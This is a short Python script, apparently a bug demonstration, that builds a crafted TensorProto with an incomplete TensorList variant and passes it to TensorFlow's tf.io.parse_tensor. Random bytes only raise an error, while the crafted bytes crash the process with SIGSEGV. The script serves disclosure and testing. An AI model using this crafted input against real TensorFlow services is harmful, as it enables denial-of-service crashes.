"""Claim: bytes from outside can at worst make TensorFlow raise.
Reality: not always. `tf.io.parse_tensor` raises on random bytes, but on crafted ones it dies with SIGSEGV.
"""

import tensorflow as tf
from endings import ending
from tensorflow.core.framework import tensor_pb2


def random_bytes():
    tf.io.parse_tensor(b"no tensor at all", tf.float32)


def crafted_bytes():
    crafted = tensor_pb2.TensorProto(dtype=tf.variant.as_datatype_enum)
    crafted.variant_val.add(type_name="tensorflow::TensorList")  # without the numbers that must follow
    tf.io.parse_tensor(crafted.SerializeToString(), tf.variant)


def main():
    for job in (random_bytes, crafted_bytes):
        print(f"{job.__name__}: {ending(job).how}")


if __name__ == "__main__":
    main()
